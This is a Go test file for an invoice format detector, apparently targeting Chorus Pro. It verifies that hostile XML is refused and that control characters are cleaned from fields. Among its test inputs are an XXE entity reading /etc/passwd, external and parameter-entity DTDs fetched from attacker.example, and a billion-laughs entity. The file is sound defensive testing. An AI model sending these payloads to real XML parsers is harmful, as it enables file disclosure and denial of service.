package invoice

import (
	"bytes"
	"encoding/binary"
	"strings"
	"testing"
	"unicode/utf16"

	"golang.org/x/text/encoding/charmap"
)

// utf16Bytes encodes s in UTF-16, big or little endian, with or without a byte-order mark.
func utf16Bytes(s string, big, bom bool) []byte {
	units := utf16.Encode([]rune(s))
	if bom {
		units = append([]uint16{0xFEFF}, units...)
	}
	out := make([]byte, 2*len(units))
	for i, u := range units {
		if big {
			binary.BigEndian.PutUint16(out[2*i:], u)
		} else {
			binary.LittleEndian.PutUint16(out[2*i:], u)
		}
	}
	return out
}

// TestDetectRefusesHostileXML: what a lenient reader downstream could be led astray by is
// refused, each with its own reason — DOCTYPEs of any kind, content outside the root element,
// and every encoding but UTF-8.
func TestDetectRefusesHostileXML(t *testing.T) {
	ubl := sample(t, "FA-2026-0001_UBL.xml")
	cii := sample(t, "FA-2026-0002_CII.xml")
	const decl = `<?xml version="1.0" encoding="utf-8"?>`
	if !bytes.HasPrefix(ubl, []byte(decl)) {
		t.Fatalf("the UBL sample does not start with %s", decl)
	}
	body := ubl[len(decl):]
	withDoctype := func(doctype string) []byte {
		return append([]byte(decl+"\n"+doctype+"\n"), body...)
	}
	latin1, err := charmap.ISO8859_1.NewEncoder().Bytes(replaceAll(t,
		replaceAll(t, ubl, `encoding="utf-8"`, `encoding="ISO-8859-1"`), "Atelier Durand SARL", "Atelier Durand Frères"))
	if err != nil {
		t.Fatal(err)
	}
	undeclaredLatin1, err := charmap.ISO8859_1.NewEncoder().Bytes(replaceAll(t, ubl, "Atelier Durand SARL", "Atelier Durand Frères"))
	if err != nil {
		t.Fatal(err)
	}
	utf16Text := strings.Replace(string(ubl), `encoding="utf-8"`, `encoding="UTF-16"`, 1)

	tests := []struct {
		name    string
		data    []byte
		wantKey string
	}{
		// DOCTYPE: refused whatever it holds, even when nothing uses it.
		{"external DTD", withDoctype(`<!DOCTYPE Invoice SYSTEM "http://attacker.example/invoice.dtd">`), KeyXMLDoctype},
		{"public DTD", withDoctype(`<!DOCTYPE Invoice PUBLIC "-//X//DTD Invoice//EN" "invoice.dtd">`), KeyXMLDoctype},
		{"unused internal entity", withDoctype(`<!DOCTYPE Invoice [<!ENTITY unused "never referenced">]>`), KeyXMLDoctype},
		{"external entity (XXE)", withDoctype(`<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`), KeyXMLDoctype},
		{"parameter entity", withDoctype(`<!DOCTYPE Invoice [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>`), KeyXMLDoctype},
		{"billion laughs", withDoctype(`<!DOCTYPE Invoice [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>`), KeyXMLDoctype},
		{"bare DOCTYPE", withDoctype(`<!DOCTYPE Invoice>`), KeyXMLDoctype},
		{"DOCTYPE after the root", append(append([]byte{}, ubl...), "\n<!DOCTYPE Invoice>"...), KeyXMLDoctype},
		{"DOCTYPE in a CII", replaceAll(t, cii, "<rsm:CrossIndustryInvoice", "<!DOCTYPE x [<!ENTITY e \"1\">]><rsm:CrossIndustryInvoice"), KeyXMLDoctype},

		// Content outside the root element.
		{"text after the root", append(append([]byte{}, ubl...), "garbage"...), KeyXMLOutside},
		{"a forged second invoice after the root", append(append([]byte{}, ubl...), body...), KeyXMLOutside},
		{"CDATA after the root", append(append([]byte{}, ubl...), "<![CDATA[x]]>"...), KeyXMLOutside},
		{"text between the declaration and the root", append([]byte(decl+"garbage"), body...), KeyXMLOutside},
		{"NUL bytes after the root", append(append([]byte{}, ubl...), 0, 0, 0), KeyXMLMalformed},

		// Encodings: Chorus Pro reads UTF-8 only.
		{"UTF-16LE with BOM", utf16Bytes(utf16Text, false, true), KeyXMLUTF16},
		{"UTF-16BE with BOM", utf16Bytes(utf16Text, true, true), KeyXMLUTF16},
		{"UTF-16LE without BOM", utf16Bytes(utf16Text, false, false), KeyXMLUTF16},
		{"UTF-16BE without BOM", utf16Bytes(utf16Text, true, false), KeyXMLUTF16},
		{"UTF-16 without BOM, blank line first", utf16Bytes("\n"+utf16Text, false, false), KeyXMLUTF16},
		{"UTF-8 bytes declaring UTF-16", []byte(utf16Text), KeyXMLUTF16},
		{"UTF-32LE with BOM", append([]byte{0xFF, 0xFE, 0, 0}, '<', 0, 0, 0), KeyXMLEncoding},
		{"UTF-32BE without BOM", []byte{0, 0, 0, '<', 0, 0, 0, 'I'}, KeyXMLEncoding},
		{"ISO-8859-1 declared", latin1, KeyXMLEncoding},
		{"windows-1252 declared", replaceAll(t, ubl, `encoding="utf-8"`, `encoding="windows-1252"`), KeyXMLEncoding},
		{"Latin-1 bytes, nothing declared", undeclaredLatin1, KeyXMLBadUTF8},
		{"US-ASCII declared, not kept", replaceAll(t, replaceAll(t, ubl, `encoding="utf-8"`, `encoding="US-ASCII"`), "Atelier Durand SARL", "Atelier Durand Frères"), KeyXMLEncoding},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			inv, err := Detect("a.xml", tt.data)
			if err == nil {
				t.Fatalf("accepted as %s %q, want refusal %s", inv.Format, inv.Number, tt.wantKey)
			}
			if got := refusalKey(t, err); got != tt.wantKey {
				t.Fatalf("refused with %s (%v), want %s", got, err, tt.wantKey)
			}
			// The same refusal inside a Factur-X.
			if bytes.Contains(tt.data, []byte("CrossIndustryInvoice")) {
				_, err := Detect("a.pdf", buildPDF(attachment{name: "factur-x.xml", data: tt.data, flate: true}))
				if got := refusalKey(t, err); got != tt.wantKey {
					t.Fatalf("inside a PDF: refused with %s (%v), want %s", got, err, tt.wantKey)
				}
			}
		})
	}
}

// TestDetectAcceptsValidXMLAroundTheRoot: what XML allows outside the root (comments,
// processing instructions, white space) and pure ASCII declared as such are accepted.
func TestDetectAcceptsValidXMLAroundTheRoot(t *testing.T) {
	ubl := sample(t, "FA-2026-0001_UBL.xml")
	tests := []struct {
		name string
		data []byte
	}{
		{"comment and processing instruction after the root", append(append([]byte{}, ubl...), "\n<!-- exported by ERP 9 -->\n<?erp done?>\n\n"...)},
		{"comment before the root", replaceAll(t, ubl, "<Invoice ", "<!-- ERP --><Invoice ")},
		{"UTF-8 declared in capitals", replaceAll(t, ubl, `encoding="utf-8"`, `encoding="UTF-8"`)},
		{"no declaration", ubl[len(`<?xml version="1.0" encoding="utf-8"?>`):]},
		{"US-ASCII declared and kept", replaceAll(t, ubl, `encoding="utf-8"`, `encoding="US-ASCII"`)},
		{"CRLF line ends", bytes.ReplaceAll(ubl, []byte("\n"), []byte("\r\n"))},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			inv, err := Detect("a.xml", tt.data)
			if err != nil {
				t.Fatalf("refused: %v", err)
			}
			checkField(t, "Number", inv.Number, "FA-2026-0001")
		})
	}
}

// TestDetectCleansFields: an invoice number or code carrying control characters, terminal
// escapes or bidirectional overrides is shown clean, whichever face shows it; a refusal
// quoting hostile text quotes it clean.
func TestDetectCleansFields(t *testing.T) {
	ubl := sample(t, "FA-2026-0001_UBL.xml")
	hostile := replaceAll(t, ubl, "<cbc:ID>FA-2026-0001</cbc:ID>", "<cbc:ID>FA-2026&#10;deposited CPP999&#x9B;2K&#x202E;1000</cbc:ID>")
	hostile = replaceAll(t, hostile, "<cbc:BuyerReference>SERV-COMPTA</cbc:BuyerReference>", "<cbc:BuyerReference>SERV&#13;COMPTA</cbc:BuyerReference>")
	inv, err := Detect("a.xml", hostile)
	if err != nil {
		t.Fatal(err)
	}
	checkField(t, "Number", inv.Number, "FA-2026 deposited CPP9992K1000")
	checkField(t, "ServiceCode", inv.ServiceCode, "SERV COMPTA")

	_, err = Detect("a.xml", replaceAll(t, ubl, durandSIRET, "7328\u009b31m29320\u202E"))
	if err == nil || strings.ContainsAny(err.Error(), "\u009b\u202E") {
		t.Errorf("refusal quotes the control characters: %q", err)
	}
	_, err = Detect("a.xml", []byte("<Invoice\u202Eevil xmlns=\"urn:x\"/>"))
	if err == nil || strings.Contains(err.Error(), "\u202E") {
		t.Errorf("refusal quotes the override: %q", err)
	}
}
